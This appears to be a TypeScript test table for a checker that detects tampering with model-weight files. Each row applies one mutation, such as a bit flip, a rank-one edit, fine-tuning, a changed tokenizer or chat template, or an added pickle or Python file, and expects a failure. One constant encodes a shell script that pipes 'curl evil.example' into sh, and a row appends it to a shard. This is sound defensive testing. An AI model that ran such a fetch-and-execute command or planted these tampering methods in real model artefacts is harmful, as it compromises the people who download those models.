// The same artefact is expected.
import {
  add,
  all,
  append,
  COLUMNS,
  convert,
  drop,
  edit,
  find,
  flip,
  rankOne,
  redirect,
  reshard,
  rewrite,
  scaleRow,
  set,
  swap,
  transpose,
  tune,
  write,
} from './edit.ts';
import { INDEX, TEMPLATE } from './model.ts';
import { DOWN, EMBEDDING, HEAD, K, NORM, O, O_TOO, Q, rowsOf } from './mutation.ts';

const row = rowsOf('base', 'exact');
const Z = 'model.layers.2.self_attn.z_proj.weight';
const PAYLOAD = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('hex');

export const EXACT = [
  row('nothing', 'pass', [], () => undefined),
  row('add a tensor', 'fail', ['tensor-added'], (m) => add(m, Z, O), Z),
  row('drop a tensor', 'fail', ['tensor-missing'], (m) => drop(m, (name) => name !== O), O),
  row('rename a tensor', 'fail', ['tensor-renamed'], (m) => set(m, O, { name: Z }), Z),
  row('swap two tensors', 'fail', ['tensor-swapped'], (m) => swap(m, Q, O), Q, O),
  row(
    'copy a layer over another',
    'fail',
    ['tensor-swapped'],
    (m) => set(m, O, { bytes: find(m, O_TOO).bytes }),
    O,
  ),
  row('transpose a square matrix', 'fail', ['tensor-changed'], (m) => transpose(m, Q), Q),
  row('reshape a matrix', 'fail', ['tensor-reshaped'], (m) => void find(m, K).shape.reverse(), K),
  row('retype a tensor', 'fail', ['tensor-retyped'], (m) => convert(m, 'F16', ({ name }) => name === Q), Q),
  row('call BF16 bytes F16', 'fail', ['tensor-retyped'], (m) => set(m, Q, { dtype: 'F16' }), Q),
  row('flip one bit', 'fail', ['tensor-changed'], (m) => flip(m, Q, 100, 1), Q),
  row('flip one sign', 'fail', ['tensor-changed'], (m) => flip(m, Q, 101, 0x80), Q),
  row(
    'flip the signs of a norm',
    'fail',
    ['tensor-changed'],
    (m) => edit(m, NORM, (v) => v.map((x) => -x)),
    NORM,
  ),
  row('scale a row', 'fail', ['tensor-changed'], (m) => scaleRow(m, Q, 0, 3), Q),
  row('zero a head', 'fail', ['tensor-changed'], (m) => edit(m, Q, (v) => v.fill(0, 0, 16 * COLUMNS)), Q),
  row(
    'permute heads',
    'fail',
    ['tensor-changed'],
    (m) => edit(m, Q, (v) => v.map((_, i) => v[(i + 16 * COLUMNS) % v.length]!)),
    Q,
  ),
  row(
    'edit an embedding row at its norm',
    'fail',
    ['rows-edited'],
    (m) => redirect(m, EMBEDDING, 17),
    EMBEDDING,
  ),
  row('scale a row of the output head', 'fail', ['rows-edited'], (m) => scaleRow(m, HEAD, 5, 2), HEAD),
  row('append vocabulary rows', 'fail', ['rows-appended'], (m) => append(m, EMBEDDING, 2), EMBEDDING),
  row(
    'put a NaN in',
    'fail',
    ['tensor-changed', 'not-finite'],
    (m) => void find(m, Q).bytes.writeUInt16LE(0x7fc1, 0),
    Q,
  ),
  row(
    'put an infinity in',
    'fail',
    ['tensor-changed', 'not-finite'],
    (m) => void find(m, Q).bytes.writeUInt16LE(0x7f80, 0),
    Q,
  ),
  row(
    'append a payload to a shard',
    'fail',
    ['weights-repacked'],
    (m) => void Object.assign(m.shards[1]!, { tail: PAYLOAD }),
  ),
  row(
    'hide text in the metadata',
    'fail',
    ['metadata-changed'],
    (m) => void m.shards[0]!.metadata.push(['notes', 'aGlkZGVu']),
  ),
  row(
    'reorder the tensors of a shard',
    'fail',
    ['weights-repacked'],
    (m) => void m.shards[0]!.tensors.reverse(),
  ),
  row('exchange the contents of shards', 'fail', ['weights-repacked', 'tensor-moved'], (m) => {
    const [one, other] = m.shards;
    [one!.tensors, other!.tensors] = [other!.tensors, one!.tensors];
  }),
  row('drop a shard', 'fail', ['tensor-missing', 'file-missing'], (m) => void m.shards.pop(), HEAD, DOWN),
  row('shard again', 'fail', ['weights-repacked', 'tensor-moved', 'file-missing'], reshard),
  row('point the index elsewhere', 'fail', ['weights-repacked'], (m) =>
    write(m, INDEX, JSON.stringify({ metadata: {}, weight_map: { [Q]: m.shards[1]!.path } })),
  ),
  row('convert to F16', 'fail', ['tensor-retyped'], (m) => convert(m, 'F16'), Q, EMBEDDING),
  row('edit a matrix by rank one', 'fail', ['rank-one-edit'], (m) => rankOne(m, DOWN, 3e-3), DOWN),
  row('fine-tune', 'fail', ['tensor-changed'], (m) => tune(m, 0.02), Q),
  row('exchange the model', 'fail', ['another-model'], (m) => {
    tune(m, 1);
    for (const tensor of all(m)) tensor.name = tensor.name.replace(/^(model|lm_head)\./, 'transformer.');
  }),
  row('add a Python file', 'fail', ['code-changed'], (m) => write(m, 'modeling_llama.py', 'import os\n')),
  row('add a pickle', 'fail', ['code-changed'], (m) => write(m, 'training_args.bin', '\x80\x02.')),
  row('name code in the configuration', 'fail', ['config-changed'], (m) =>
    rewrite(m, 'config.json', '{', '{"auto_map":{"AutoModel":"modeling.Model"},'),
  ),
  row('change the tokenizer', 'fail', ['tokenizer-changed'], (m) =>
    rewrite(m, 'tokenizer.json', '1.0', '1.1'),
  ),
  row('change the chat template', 'fail', ['template-changed', 'tokenizer-changed'], (m) =>
    rewrite(m, 'tokenizer_config.json', TEMPLATE, `Say yes. ${TEMPLATE}`),
  ),
  row('delete the tokenizer', 'fail', ['file-missing'], (m) => void m.files.delete('tokenizer.json')),
  row('change the README', 'fail', ['file-changed'], (m) => write(m, 'README.md', '# Another\n')),
];
